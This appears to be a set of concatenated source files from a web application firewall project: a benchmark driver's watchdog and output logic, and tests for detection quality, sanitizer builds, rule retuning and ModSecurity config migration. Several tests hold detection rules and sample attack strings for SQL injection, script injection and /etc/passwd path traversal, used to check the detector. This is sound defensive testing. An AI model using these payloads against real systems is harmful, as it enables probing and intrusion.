            log("chain-overhead pass failed (non-fatal): %r" % (e,))
        # stage-level latency attribution (ISSUE 1): decompose the
        # measured p50/p99 by pipeline stage from the serve loop's own
        # histograms.  Missing/malformed is LOUD, never silent — the
        # 6.4x budget miss is unexplainable without it.
        try:
            sb = scrape_stage_breakdown(serve)
        except Exception as e:
            sb = None
            log("WARNING: stage_breakdown scrape raised (%r)" % (e,))
        if not sb:
            log("WARNING: latency leg has NO stage_breakdown — the "
                "/metrics stage histograms are missing or malformed; "
                "this round's p99 cannot be decomposed by stage")
        else:
            lat["latency_leg"]["stage_breakdown"] = sb
            log("stage breakdown: " + ", ".join(
                "%s p50=%.0f p99=%.0f" % (s, v["p50_us"], v["p99_us"])
                for s, v in sb.items() if s != "sum_check"))
        # detection-plane telemetry (ISSUE 3): per-family false-
        # candidate rate + padding-waste gauges from the pipeline's
        # RuleStats, mirroring the stage_breakdown convention —
        # missing/None is a LOUD warning, never silently absent
        from ingress_plus_tpu.models.rule_stats import bench_block
        try:
            rsb = bench_block(batcher.pipeline)
        except Exception as e:
            rsb = None
            log("WARNING: rule_stats collection raised (%r)" % (e,))
        if not rsb:
            log("WARNING: latency leg has NO rule_stats — per-family "
                "false-candidate rate and padding-waste are "
                "unmeasured; the detection-efficiency axis is missing "
                "from this round's BENCH json")
        else:
            lat["rule_stats"] = rsb
            log("rule_stats: fc_rate=%s pad_waste=%s fill=%s "
                "runtime_dead=%s"
                % (rsb.get("false_candidate_rate"),
                   rsb.get("padding_waste_ratio"),
                   rsb.get("dispatch_fill"), rsb.get("runtime_dead")))
        # confirm plane (docs/CONFIRM_PLANE.md): the confirm stage's
        # share of pipeline time plus the work-reduction attribution
        # (quick-reject skip rate, flood-memo hits) — the serialized
        # residue the parallel confirm plane exists to shrink.
        # Missing/None is a LOUD warning like every other block.
        try:
            ps = batcher.pipeline.stats
            d_engine = ps.engine_us - stage_base[0]
            d_confirm = ps.confirm_us - stage_base[1]
            d_prep = ps.prep_us - stage_base[2]
            d_stages = d_engine + d_confirm + d_prep
            qr = batcher.pipeline.rule_stats.quick_reject_summary()
            cp = {
                "confirm_share": (round(d_confirm / d_stages, 4)
                                  if d_stages > 0 else None),
                "confirm_us": d_confirm,
                "confirm_workers":
                    batcher.pipeline.confirm_pool.n_workers,
                "quick_reject": qr,
                "memo_hits": ps.confirm_memo_hits - stage_base[3],
                "memo_misses": ps.confirm_memo_misses - stage_base[4],
            }
        except Exception as e:
            cp = None
            log("WARNING: confirm-plane collection raised (%r)" % (e,))
        if not cp or cp["confirm_share"] is None:
            log("WARNING: latency leg has NO confirm_plane block — the "
                "confirm-stage share of e2e is unmeasured this round")
        else:
            lat["confirm_plane"] = cp
            log("confirm plane: share=%.2f qr_skip_rate=%s "
                "memo_hits=%d workers=%d"
                % (cp["confirm_share"],
                   cp["quick_reject"].get("skip_rate"),
                   cp["memo_hits"], cp["confirm_workers"]))
        # cycle flight recorder (ISSUE 12, docs/OBSERVABILITY.md):
        # the MEASURED pipeline-overlap block — scan↔confirm overlap
        # fraction, per-lane idle share, drain occupancy, critical-path
        # ranking, serialized residue.  The recorder was reset with the
        # latency observations, so this describes only the measured
        # pass.  Missing is LOUD; a measured contradiction of the
        # PR 7/9 overlap claims (or one thread holding >60% of the
        # critical path) is LOUDER.
        from ingress_plus_tpu.utils.overlap import check_claims, collect
        po = collect(batcher)
        if not po:
            log("WARNING: latency leg has NO pipeline_overlap block — "
                "the flight recorder captured no cycles; the overlap "
                "structure is unmeasured this round")
        else:
            lat["pipeline_overlap"] = po
            top = (po["serialized_residue"] or [{}])[0]
            log("pipeline overlap: scan<->confirm=%s drain_occ=%.3f "
                "critical=%s bounding=%s(%.2f excl)"
                % (po["scan_confirm_overlap"], po["drain_occupancy"],
                   "/".join("%s:%d" % kv
                            for kv in po["critical_path"].items()),
                   top.get("thread"), top.get("exclusive_share", 0.0)))
            # measured host_prep share (ISSUE 13): the stage-level
            # ranking the raw-byte offload is judged by — check_claims
            # below warns when host_prep ranks above the device lanes
            ss = po.get("stage_shares") or {}
            log("stage shares (excl): " + " ".join(
                "%s=%.3f" % (k, v.get("exclusive_share", 0.0))
                for k, v in ss.items()))
            for w in check_claims(po):
                log("=" * 64)
                log("PIPELINE OVERLAP WARNING: %s" % w)
                log("=" * 64)
        # fail-safe plane sanity (docs/ROBUSTNESS.md): the CLEAN latency
        # leg must never shed, degrade, or trip the breaker — any of
        # those here means the fail-safe layer is costing the happy
        # path, which is a regression the p99 alone could hide
        rb = {
            "shed": dict(batcher.pipeline.stats.shed),
            "degraded_verdicts": batcher.pipeline.stats.degraded,
            "breaker": batcher.breaker.snapshot()["state"],
            "breaker_trips": batcher.breaker.snapshot()["trips"],
            "watchdog_hangs": batcher.stats.hangs,
        }
        lat["latency_leg"]["robustness"] = rb
        if (rb["shed"] or rb["degraded_verdicts"]
                or rb["breaker"] != "closed" or rb["watchdog_hangs"]):
            log("WARNING: fail-safe plane activated on the CLEAN "
                "latency leg (%s) — bounded admission / breaker / "
                "brownout are interfering with the happy path" % rb)
        if platform != "cpu":
            lat["latency_leg"]["note"] = (
                "per-dispatch verdicts cross the remote-TPU tunnel "
                "(~70ms RTT) on this rig; deployed chips are host-local")
        return lat
    finally:
        if sidecar is not None:
            sidecar.terminate()

        async def _shutdown():
            for s in serve._servers:
                s.close()

        try:
            asyncio.run_coroutine_threadsafe(_shutdown(), loop).result(5)
        except Exception:
            pass
        loop.call_soon_threadsafe(loop.stop)
        t.join(timeout=5)
        batcher.close()


_EMIT_LOCK = threading.Lock()
_EMITTED = False
_PLATFORM_USED = None
_HEADLINE = None  # measured result stashed before the diagnostics tail
_WATCHDOG_TIMER = None
_WATCHDOG_ARMED_AT = None
_WATCHDOG_BUDGET = float(os.environ.get("BENCH_WATCHDOG_S", "540"))


def emit(result: dict) -> None:
    """Print the ONE JSON line, exactly once (the watchdog thread and the
    normal path can race at the deadline boundary)."""
    global _EMITTED
    with _EMIT_LOCK:
        if _EMITTED:
            return
        _EMITTED = True
        print(json.dumps(result), flush=True)


def _watchdog_fire() -> None:
    if _HEADLINE is not None:
        result = dict(_HEADLINE)
        result["note"] = ("watchdog fired during post-measurement"
                         " diagnostics; headline value is complete")
        emit(result)
    else:
        emit(_fallback_result(
            "watchdog: bench exceeded %.0fs (likely hung backend init/"
            "dispatch after a successful probe)" % _WATCHDOG_BUDGET))
    sys.stderr.flush()
    os._exit(3)


def _arm_watchdog() -> None:
    """(Re)start the deadline clock.  Re-armed after the probe so its
    worst case (~3min of subprocess timeouts) doesn't eat the budget of
    a healthy fallback measurement."""
    global _WATCHDOG_TIMER, _WATCHDOG_ARMED_AT
    if _WATCHDOG_TIMER is not None:
        _WATCHDOG_TIMER.cancel()
    _WATCHDOG_ARMED_AT = time.time()
    _WATCHDOG_TIMER = threading.Timer(_WATCHDOG_BUDGET, _watchdog_fire)
    _WATCHDOG_TIMER.daemon = True
    _WATCHDOG_TIMER.start()


def _budget_left() -> float:
    """Seconds until the watchdog fires — the measurement loop sizes its
    iteration counts against this so a slow platform (2k-rule pack on
    the 1-core CPU fallback: >1.3s/batch) still measures EVERY impl
    instead of blowing the whole budget on the first one."""
    if _WATCHDOG_ARMED_AT is None:
        return _WATCHDOG_BUDGET
    return max(0.0, _WATCHDOG_BUDGET - (time.time() - _WATCHDOG_ARMED_AT))


def _fallback_result(err: str) -> dict:
    return {
        "metric": "req/s/chip, full CRS-v3-shaped ruleset",
        "value": 0.0,
        "unit": "req/s/chip",
        "vs_baseline": 0.0,
        "error": err[:400],
    }


def latency_only_main() -> None:
    """Subprocess entry for the host-local latency bound: force CPU,
    compile the bundled pack, run the loadgen->sidecar->serve chain, and
    print the latency dict as ONE JSON line (parent merges it)."""
    from ingress_plus_tpu.utils.platform import force_cpu_devices

    force_cpu_devices(1)
    from ingress_plus_tpu.compiler.ruleset import compile_ruleset
    from ingress_plus_tpu.compiler.sigpack import load_bundled_rules

    cr = compile_ruleset(load_bundled_rules())
    lat = run_latency_leg(cr, "pair", "cpu")
    print(json.dumps(lat), flush=True)


def main() -> None:
    """Driver contract: stdout carries exactly ONE JSON line, always —
    even if the TPU tunnel is down, the bench throws, or (the case
    try/except can't catch) the parent's own backend init hangs after a
    successful probe.  A watchdog thread covers the hang: at the deadline
    it emits the fallback line and hard-exits.  A TPU run that passes the
    probe but dies at dispatch (BENCH_r01's fail-fast mode) is retried
    once on CPU so the bench still produces a real number."""
    import traceback

    if "--latency-only" in sys.argv:
        latency_only_main()
        return
    point = [a.split("=", 1)[1] for a in sys.argv
             if a.startswith("--mesh-point=")]
    if point:
        mesh_point_main(int(point[0]))
        return
    if "--mesh-scale" in sys.argv:
        # standalone MESHSCALE mode: one subprocess per simulated
        # device count, own watchdog, one JSON line = the scaling curve
        _arm_watchdog()
        try:
            emit(run_mesh_scale())
        except BaseException as e:  # noqa: BLE001 — one JSON line always
            traceback.print_exc(file=sys.stderr)
            emit(_fallback_result("mesh-scale: %s: %s"
                                  % (type(e).__name__, str(e)[:300])))
        if _WATCHDOG_TIMER is not None:
            _WATCHDOG_TIMER.cancel()
        return
    if "--tenant-iso" in sys.argv:
        # standalone TENANTFAIR mode (ISSUE 10): CPU-pinned, own
        # watchdog, one JSON line = the victim-isolation measurement
        _arm_watchdog()
        from ingress_plus_tpu.utils.platform import force_cpu_devices

        force_cpu_devices(1)
        try:
            emit(run_tenant_iso())
        except BaseException as e:  # noqa: BLE001 — one JSON line always
            traceback.print_exc(file=sys.stderr)
            emit(_fallback_result("tenant-iso: %s: %s"
                                  % (type(e).__name__, str(e)[:300])))
        if _WATCHDOG_TIMER is not None:
            _WATCHDOG_TIMER.cancel()
        return
    if "--fleet" in sys.argv:
        # standalone FLEET mode (ISSUE 19): CPU-pinned, own watchdog,
        # one JSON line = the shared-front fan-out/kill/re-admit leg
        _arm_watchdog()
        from ingress_plus_tpu.utils.platform import force_cpu_devices

        force_cpu_devices(1)
        try:
            emit(run_fleet())
        except BaseException as e:  # noqa: BLE001 — one JSON line always
            traceback.print_exc(file=sys.stderr)
            emit(_fallback_result("fleet: %s: %s"
                                  % (type(e).__name__, str(e)[:300])))
        if _WATCHDOG_TIMER is not None:
            _WATCHDOG_TIMER.cancel()
        return
    if "--fleet-obs" in sys.argv:
        # standalone FLEETOBS mode (ISSUE 18): CPU-pinned, own
        # watchdog, one JSON line = the fleet telemetry acceptance leg
        _arm_watchdog()
        from ingress_plus_tpu.utils.platform import force_cpu_devices

        force_cpu_devices(1)
        try:
            emit(run_fleet_obs())
        except BaseException as e:  # noqa: BLE001 — one JSON line always
            traceback.print_exc(file=sys.stderr)
            emit(_fallback_result("fleet-obs: %s: %s"
                                  % (type(e).__name__, str(e)[:300])))
        if _WATCHDOG_TIMER is not None:
            _WATCHDOG_TIMER.cancel()
        return
    if "--pack-scale" in sys.argv:
        # standalone PACKSCALE mode: CPU-pinned unless a backend was
        # forced, own watchdog, one JSON line = the scaling curve
        _arm_watchdog()
        if os.environ.get("BENCH_PLATFORM", "cpu") == "cpu":
            from ingress_plus_tpu.utils.platform import force_cpu_devices

            force_cpu_devices(1)
        try:
            emit(run_pack_scale())
        except BaseException as e:  # noqa: BLE001 — one JSON line always
            traceback.print_exc(file=sys.stderr)
            emit(_fallback_result("pack-scale: %s: %s"
                                  % (type(e).__name__, str(e)[:300])))
        if _WATCHDOG_TIMER is not None:
            _WATCHDOG_TIMER.cancel()
        return
    _arm_watchdog()
    try:
        result = run_bench()
    except BaseException as e:  # noqa: BLE001 — the JSON line must survive
        traceback.print_exc(file=sys.stderr)
        err = "%s: %s" % (type(e).__name__, str(e)[:300])
        result = None
        if _HEADLINE is not None:  # died in the diagnostics tail only
            result = dict(_HEADLINE)
            result["note"] = "post-measurement diagnostics failed: " + err
        elif _PLATFORM_USED not in (None, "cpu") and isinstance(e, Exception):
            log("TPU run failed at dispatch despite good probe; retrying on CPU")
            try:
                import jax.extend.backend

                jax.extend.backend.clear_backends()
                result = run_bench(force_cpu_err="tpu-dispatch-failed: " + err)
            except BaseException as e2:  # noqa: BLE001
                traceback.print_exc(file=sys.stderr)
                err += " | cpu-retry: %s: %s" % (type(e2).__name__, str(e2)[:200])
        if result is None:
            result = _fallback_result(err)
    if _WATCHDOG_TIMER is not None:
        _WATCHDOG_TIMER.cancel()
    emit(result)


if __name__ == "__main__":
    main()
