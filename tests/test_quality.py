"""Non-self-referential quality pins (VERDICT r03 item #3).

The corpus here is utils/evasion.py: classic public payloads under
WAF-bypass transforms, plus realistic benign traffic — independent of the
rule templates and of utils/corpus.py's family definitions.  The full
10k-benign numbers live in reports/QUALITY.json (built by
``python -m ingress_plus_tpu.utils.quality_report``); these tests pin a
smaller deterministic sample so CI catches regressions fast.
"""

import collections

import pytest

from ingress_plus_tpu.compiler.ruleset import compile_ruleset
from ingress_plus_tpu.compiler.sigpack import load_bundled_rules
from ingress_plus_tpu.models.pipeline import DetectionPipeline
from ingress_plus_tpu.utils.evasion import (
    CLASSIC,
    TRANSFORMS,
    generate_benign,
    generate_evasion,
)


@pytest.fixture(scope="module")
def pipeline():
    return DetectionPipeline(compile_ruleset(load_bundled_rules()),
                             mode="monitoring")


def _detect_all(pipeline, requests, batch=256):
    out = []
    for i in range(0, len(requests), batch):
        out.extend(pipeline.detect(requests[i:i + batch]))
    return out


def test_evasion_detection_rate(pipeline):
    samples = generate_evasion()
    assert len(samples) >= 400   # corpus breadth: payloads × transforms
    verdicts = _detect_all(pipeline, [s.labeled.request for s in samples])
    per_t = collections.defaultdict(lambda: [0, 0])
    for s, v in zip(samples, verdicts):
        key = "+".join(s.transforms) if s.transforms else "plain"
        per_t[key][1] += 1
        per_t[key][0] += int(v.attack)
    total = sum(v[1] for v in per_t.values())
    det = sum(v[0] for v in per_t.values())
    assert det / total >= 0.90, {k: (v[0], v[1]) for k, v in per_t.items()}
    # the headline single transforms each hold their own floor
    for key, floor in [("plain", 0.90), ("urlencode_full", 0.90),
                       ("case_churn", 0.85), ("sql_comment_split", 0.85),
                       ("overlong_utf8", 0.80), ("null_splice", 0.90)]:
        d, t = per_t[key]
        assert d / t >= floor, (key, d, t)


def test_benign_fp_rate(pipeline):
    benign = generate_benign(n=2500)
    verdicts = _detect_all(pipeline, [b.request for b in benign])
    fps = [(b.request.request_id, v.rule_ids)
           for b, v in zip(benign, verdicts) if v.attack]
    # ≤0.2% on this sample (the 10k report tracks the headline number)
    assert len(fps) <= 5, fps[:10]


def test_benign_fixture_corpus(pipeline):
    """VERDICT r04 item #8: the hand-authored, generator-independent
    benign set.  Only the documented CRS-parity residue may flag
    (verbatim SQL statements in prose, markdown code with event
    handlers — shapes stock ModSecurity+CRS also flags); everything
    else — GraphQL, OAuth, nested configs with globs/templates,
    webhooks, uploads — must pass clean."""
    from ingress_plus_tpu.utils.benign_fixtures import fixture_corpus

    corpus = fixture_corpus()
    assert len(corpus) >= 30
    verdicts = _detect_all(pipeline, [c.request for c in corpus])
    fps = {c.request.request_id for c, v in zip(corpus, verdicts)
           if v.attack}
    known_parity = {"fixture-14", "fixture-16", "fixture-17",
                    "fixture-18"}
    # exact equality is the ratchet: a NEW fp fails loudly, and a rule
    # fix that clears one of the known four also fails — forcing the
    # set (and QUALITY.json's story) to ratchet down with it
    assert fps == known_parity, sorted(fps.symmetric_difference(
        known_parity))


def test_corpus_is_not_template_derived():
    """Guard the de-circularization property itself: classic payloads must
    not be drawn from the sigpack template expansion."""
    from ingress_plus_tpu.compiler.sigpack import generate_signature_rules

    args = {r.argument for r in generate_signature_rules()}
    for _cls, _name, payload, _ctx in CLASSIC:
        assert payload not in args


def test_transforms_are_deterministic():
    import random

    for name, fn in TRANSFORMS.items():
        a = fn("1' UNION SELECT a FROM b--", random.Random(1))
        b = fn("1' UNION SELECT a FROM b--", random.Random(1))
        assert a == b, name
