"""Sanitizer builds of the native tier (SURVEY.md §5 race-detection row;
round-2 VERDICT item 7): the sidecar's epoll/state-machine C++ runs the
real e2e flow under ASan+UBSan and TSan builds; any sanitizer report
fails the suite (sanitizers abort with a nonzero exit and an 'ERROR:' /
'WARNING: ThreadSanitizer' banner on stderr)."""

import json
import os
import shutil
import socket
import subprocess
import sys
import time
from pathlib import Path

import pytest

REPO = Path(__file__).resolve().parent.parent
SIDECAR_DIR = REPO / "native" / "sidecar"

TINY_RULES = """
SecRule REQUEST_URI|ARGS|REQUEST_BODY "@rx (?i)union\\s+select" \
    "id:942100,phase:2,block,t:urlDecodeUni,severity:CRITICAL,tag:'attack-sqli'"
SecRule REQUEST_URI|ARGS|REQUEST_BODY "@rx (?i)<script" \
    "id:941100,phase:2,block,t:urlDecodeUni,severity:CRITICAL,tag:'attack-xss'"
SecRule REQUEST_URI|ARGS|REQUEST_BODY|REQUEST_HEADERS "@rx /etc/passwd" \
    "id:930120,phase:2,block,severity:CRITICAL,tag:'attack-lfi'"
"""


def _build(target):
    if shutil.which("g++") is None:
        pytest.skip("no g++")
    out = subprocess.run(["make", "-s", "-C", str(SIDECAR_DIR), target],
                         capture_output=True, text=True, timeout=300)
    assert out.returncode == 0, out.stdout + out.stderr


def _wait_socket(path, proc, what, timeout_s=120):
    for _ in range(int(timeout_s * 10)):
        if Path(path).exists():
            try:
                s = socket.socket(socket.AF_UNIX)
                s.connect(str(path))
                s.close()
                return
            except OSError:
                pass
        if proc.poll() is not None:
            raise RuntimeError("%s died rc=%s: %s" % (
                what, proc.returncode,
                proc.stderr.read() if proc.stderr else ""))
        time.sleep(0.1)
    raise RuntimeError("%s socket never appeared" % what)


def _run_flow_through(sidecar_bin, tmp_path, n_requests=200):
    """Serve loop (normal python) + sanitizer sidecar + loadgen flow;
    returns the sidecar's stderr text after clean shutdown."""
    from ingress_plus_tpu.utils.export_corpus import export

    rules_dir = tmp_path / "rules"
    rules_dir.mkdir()
    (rules_dir / "tiny.conf").write_text(TINY_RULES)
    srv_sock = str(tmp_path / "srv.sock")
    side_sock = str(tmp_path / "side.sock")
    env = dict(os.environ)
    env["XLA_FLAGS"] = "--xla_force_host_platform_device_count=1"
    srv = subprocess.Popen(
        [sys.executable, "-m", "ingress_plus_tpu.serve",
         "--socket", srv_sock, "--http-port", "0", "--platform", "cpu",
         "--rules-dir", str(rules_dir), "--no-warmup"],
        cwd=str(REPO), env=env, stderr=subprocess.DEVNULL)
    side = None
    err_path = tmp_path / "side_err.log"
    try:
        _wait_socket(srv_sock, srv, "server")
        side = subprocess.Popen(
            [str(sidecar_bin), "--listen", side_sock,
             "--upstream", srv_sock, "--deadline-ms", "60000"],
            stderr=open(err_path, "w"))
        _wait_socket(side_sock, side, "sidecar")

        corpus = tmp_path / "c.bin"
        export(str(corpus), n=100, seed=11, attack_fraction=0.3)
        out = subprocess.run(
            [str(SIDECAR_DIR / "loadgen"), "--socket", side_sock,
             "--corpus", str(corpus), "--connections", "4",
             "--inflight", "8", "--requests", str(n_requests)],
            capture_output=True, text=True, timeout=300)
        assert out.returncode == 0, out.stderr
        result = json.loads(out.stdout)
        assert result["requests"] == n_requests
        assert result["attacks"] > 0

        side.terminate()
        rc = side.wait(timeout=30)
        # ASan/TSan exit nonzero (or abort) when they have a report;
        # SIGTERM (-15) is the clean-shutdown signal we sent
        assert rc in (0, -15), "sanitizer sidecar exit rc=%s:\n%s" % (
            rc, err_path.read_text()[-4000:])
        side = None
    finally:
        if side is not None:
            side.kill()
        srv.terminate()
        srv.wait(timeout=10)
    return err_path.read_text()


@pytest.mark.parametrize("target,binary", [
    ("asan", "sidecar_asan"),
    ("tsan", "sidecar_tsan"),
])
def test_sidecar_under_sanitizer(target, binary, tmp_path):
    _build(target)
    _build("all")   # loadgen (normal build) drives the traffic
    err = _run_flow_through(SIDECAR_DIR / binary, tmp_path)
    assert "ERROR: AddressSanitizer" not in err, err[-4000:]
    assert "runtime error:" not in err, err[-4000:]          # UBSan
    assert "WARNING: ThreadSanitizer" not in err, err[-4000:]
