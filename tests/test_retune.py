"""Profile-guided pack retuning (ISSUE 15, docs/RETUNE.md).

Covers the telemetry→compiler loop: MeasuredProfile roundtrip/versioning
/hashing, the profile-priced reduction's determinism (same profile BYTES
→ same pack fingerprint) and soundness (zero lost candidates vs the
exact compile, verdict parity vs the static-model pack), hot-rule
window pinning and quick-reject relaxation provenance, the
/rules/stats?format=profile export surface, and the tools/retune.py
library gates on a small pack.
"""

import asyncio
import json
import sys
from pathlib import Path

import numpy as np
import pytest

from ingress_plus_tpu.compiler.profile import (
    PROFILE_VERSION,
    MeasuredProfile,
)
from ingress_plus_tpu.compiler.reduce import (
    ReductionConfig,
    byte_model,
    measure_inflation,
)
from ingress_plus_tpu.compiler.ruleset import compile_ruleset
from ingress_plus_tpu.compiler.seclang import parse_seclang
from ingress_plus_tpu.models.pipeline import DetectionPipeline
from ingress_plus_tpu.serve.normalize import Request

sys.path.insert(0, str(Path(__file__).resolve().parent.parent / "tools"))

RULES = r"""
SecRule ARGS|REQUEST_BODY "@rx (?i)union\s+select" \
    "id:942100,phase:2,block,t:urlDecodeUni,t:lowercase,severity:CRITICAL,tag:'attack-sqli'"
SecRule ARGS|REQUEST_BODY "@rx (?i)<script[^>]*>" \
    "id:941100,phase:2,block,t:urlDecodeUni,severity:CRITICAL,tag:'attack-xss'"
SecRule REQUEST_URI|ARGS "@rx /etc/(?:passwd|shadow)" \
    "id:930120,phase:2,block,severity:CRITICAL,tag:'attack-lfi'"
SecRule ARGS "@rx (?i)(?:sleep|benchmark)\(\d+" \
    "id:942150,phase:2,block,severity:ERROR,tag:'attack-sqli'"
SecRule REQUEST_URI "@rx \.(?:bak|old|orig)$" \
    "id:930130,phase:1,block,severity:ERROR,tag:'attack-disclosure'"
"""

ATTACKS = ["/q?a=1+union+select+2", "/p?x=<script>alert(1)</script>",
           "/f?name=../../etc/passwd", "/s?id=sleep(5)--"]


@pytest.fixture(scope="module")
def cr():
    return compile_ruleset(parse_seclang(RULES))


def _traffic(n=64):
    out = []
    for i in range(n):
        uri = ATTACKS[i % len(ATTACKS)] if i % 4 == 0 \
            else "/benign/page?q=hello+world+%d" % i
        out.append(Request(uri=uri, request_id="t%d" % i,
                           headers={"host": "a.example",
                                    "user-agent": "ua/1.0"}))
    return out


def _profiled_pipe(cr, n=64):
    pipe = DetectionPipeline(cr, mode="block")
    pipe.detect(_traffic(n))
    return pipe


# ------------------------------------------------ profile artifact

def test_profile_roundtrip_hash_and_save(cr, tmp_path):
    prof = MeasuredProfile.from_rule_stats(_profiled_pipe(cr).rule_stats)
    assert prof.requests == 64
    assert 942100 in prof.rules          # the hot rule made it in
    assert prof.rules[942100]["candidate_rate"] > 0
    # canonical-bytes roundtrip: same content, same hash
    clone = MeasuredProfile.from_json(prof.to_json())
    assert clone.to_json() == prof.to_json()
    assert clone.content_hash() == prof.content_hash()
    p = tmp_path / "prof.json"
    prof.save(p)
    assert MeasuredProfile.load(p).content_hash() == prof.content_hash()


def test_profile_version_gate():
    d = {"version": PROFILE_VERSION + 1, "source": "future",
         "requests": 1, "rules": {}, "byte_freq": []}
    with pytest.raises(ValueError):
        MeasuredProfile.from_dict(d)


def test_profile_byte_mu_blend(cr):
    prof = MeasuredProfile.from_rule_stats(_profiled_pipe(cr).rule_stats)
    mu = prof.byte_mu()
    assert mu is not None and mu.shape == (256,)
    assert abs(float(mu.sum()) - 1.0) < 1e-6
    # observed traffic shifts the distribution off the static prior
    assert not np.allclose(mu, byte_model())
    # no byte axis → no mu (caller falls back to the static model)
    empty = MeasuredProfile(source="x", requests=0, rules={},
                            byte_freq=[])
    assert empty.byte_mu() is None


def test_rule_weights_hot_and_expensive(cr):
    prof = MeasuredProfile.from_rule_stats(_profiled_pipe(cr).rule_stats)
    ids = [int(r) for r in cr.rule_ids]
    w = prof.rule_weights(ids)
    assert w.shape == (len(ids),)
    assert float(w.min()) >= 0.25 and float(w.max()) <= 8.0
    hot = prof.hot_rule_ids(0.5)
    assert hot and hot <= set(prof.rules)
    # deterministic tie-break: two calls, same order
    assert prof.top_expensive_confirms(4) == prof.top_expensive_confirms(4)


# --------------------------------------- profile-priced compilation

def test_profile_priced_compile_deterministic_and_sound(cr):
    prof = MeasuredProfile.from_rule_stats(_profiled_pipe(cr).rule_stats)
    rules = parse_seclang(RULES)
    cfg_a = ReductionConfig(profile=prof)
    cfg_b = ReductionConfig(
        profile=MeasuredProfile.from_json(prof.to_json()))
    cr_a = compile_ruleset(rules, reduction=cfg_a)
    cr_b = compile_ruleset(rules, reduction=cfg_b)
    # same profile bytes → same pack fingerprint (retunegate's contract)
    assert cr_a.version == cr_b.version
    # provenance chain present
    assert cr_a.reduction["profile_hash"] == prof.content_hash()
    # soundness: the reduced tables never lose a candidate
    exact = compile_ruleset(rules, reduction=ReductionConfig.off())
    rows = [r.uri.encode() for r in _traffic(48)]
    infl = measure_inflation(exact.tables, cr_a.tables, rows)
    assert infl["lost_candidates"] == 0
    # verdict parity vs the static-model pack over mixed traffic
    reqs = _traffic(48)
    vs = DetectionPipeline(cr, mode="block").detect(reqs)
    vr = DetectionPipeline(cr_a, mode="block").detect(reqs)
    for a, b in zip(vs, vr):
        assert (a.attack, a.blocked, a.score, sorted(a.rule_ids)) == \
            (b.attack, b.blocked, b.score, sorted(b.rule_ids)), \
            a.request_id


def test_qr_relax_provenance_and_literals(cr):
    prof = MeasuredProfile.from_rule_stats(_profiled_pipe(cr).rule_stats)
    cr_r = compile_ruleset(parse_seclang(RULES),
                           reduction=ReductionConfig(profile=prof))
    assert cr_r.reduction["qr_relaxed"] >= 0
    relaxed = [int(cr_r.rule_ids[i]) for i, m in enumerate(cr_r.rules)
               if m.confirm.get("qr_relax")]
    # every relax-flagged rule is one the profile ranked expensive
    expensive = set(prof.top_expensive_confirms(16))
    for rid in relaxed:
        assert rid in expensive
    # qr_relax is fingerprint-covered: stripping it changes the pack
    cr_plain = compile_ruleset(parse_seclang(RULES),
                               reduction=ReductionConfig(
                                   profile=prof, qr_relax_top=0))
    if relaxed:
        assert cr_plain.version != cr_r.version


def test_hot_rules_keep_exact_windows(cr):
    """Hot factors are pinned out of the approximate passes: with every
    rule hot, the profile-priced tables equal the default reduction's
    only where merging never fired — assert the report says so."""
    prof = MeasuredProfile.from_rule_stats(_profiled_pipe(cr).rule_stats)
    cr_r = compile_ruleset(parse_seclang(RULES),
                           reduction=ReductionConfig(profile=prof,
                                                     hot_frac=1.0))
    assert cr_r.reduction["hot_factors"] > 0


# --------------------------------------------------- export surface

def test_rules_stats_profile_export(cr, tmp_path):
    from ingress_plus_tpu.serve.batcher import Batcher
    from ingress_plus_tpu.serve.server import ServeLoop

    pipe = DetectionPipeline(cr, mode="block")
    b = Batcher(pipe, max_delay_s=0.001)
    serve = ServeLoop(b, str(tmp_path / "ipt.sock"))
    try:
        for r in _traffic(16):
            b.submit(r).result(30)
        _status, _ctype, body = asyncio.run(serve._route_http(
            "GET", "/rules/stats?format=profile", b""))
        prof = MeasuredProfile.from_json(body)
        assert prof.requests == 16
        # the export IS the canonical bytes — hash-stable provenance
        assert body == prof.to_json().encode()
    finally:
        b.close()


# -------------------------------------------------- retuner library

def test_retune_library_gates(tmp_path):
    import retune as rt

    rules = parse_seclang(RULES)
    prof = MeasuredProfile.from_rule_stats(
        _profiled_pipe(compile_ruleset(rules)).rule_stats)
    report = rt.retune(rules=rules, profile=prof, staged=False, ab=False)
    assert report["ok"], report
    assert report["replay"]["new_fns"] == 0
    assert report["replay"]["new_blocks"] == 0
    assert report["inflation"]["retuned"]["lost_candidates"] == 0
    assert report["profile"]["hash"] == prof.content_hash()
    cr_out = report.pop("_retuned_cr")
    assert cr_out.version == report["retuned_fingerprint"]
    # the report is json-serializable once the pack ref is stripped
    json.dumps(report)
