"""Migration smoke: a real-world-shaped ModSecurity deployment tree —
entry config with Includes, crs-setup with SecActions, rule files with
@pmFromFile/@ipMatchFromFile data files, and a trailing exclusion file —
loads UNCHANGED through --rules-dir and serves verdicts over the wire.
This is the "a user of the reference can switch" test (task contract):
point the serve loop at your existing tree and go."""

import os
import socket
import subprocess
import sys
import time
from pathlib import Path

REPO = Path(__file__).resolve().parent.parent


def _write_tree(root: Path) -> Path:
    rules = root / "rules"
    rules.mkdir()
    (root / "modsecurity.conf").write_text(
        "SecRuleEngine On\n"
        "SecRequestBodyAccess On\n"
        'SecDefaultAction "phase:2,log,pass"\n'
        "Include crs-setup.conf\n"
        "Include rules/*.conf\n")
    (root / "crs-setup.conf").write_text(
        'SecAction "id:900990,phase:1,pass,'
        'setvar:tx.crs_setup_version=330,'
        'setvar:tx.inbound_anomaly_score_threshold=5"\n')
    (rules / "910-ip.conf").write_text(
        'SecRule REMOTE_ADDR "@ipMatchFromFile scanner-ips.data" '
        '"id:910110,phase:1,deny,severity:CRITICAL,'
        "tag:'attack-generic'\"\n")
    (rules / "scanner-ips.data").write_text("# scanners\n203.0.113.0/24\n")
    (rules / "942-sqli.conf").write_text(
        'SecRule ARGS|REQUEST_BODY "@rx (?i)union[\\s/*]+select" '
        '"id:942100,phase:2,block,t:urlDecodeUni,t:lowercase,'
        "severity:CRITICAL,tag:'attack-sqli'\"\n"
        'SecRule ARGS "@pmFromFile sqli-kw.data" '
        '"id:942160,phase:2,block,severity:ERROR,tag:\'attack-sqli\'"\n')
    (rules / "sqli-kw.data").write_text("xp_cmdshell\nbenchmark(\n")
    (rules / "999-exclusions.conf").write_text(
        "SecRuleRemoveById 942160\n")
    return root


def test_migration_tree_loads_and_serves(tmp_path):
    tree = _write_tree(tmp_path)
    sock_path = str(tmp_path / "m.sock")
    env = dict(os.environ)
    env["XLA_FLAGS"] = "--xla_force_host_platform_device_count=1"
    proc = subprocess.Popen(
        [sys.executable, "-m", "ingress_plus_tpu.serve",
         "--socket", sock_path, "--http-port", "0",
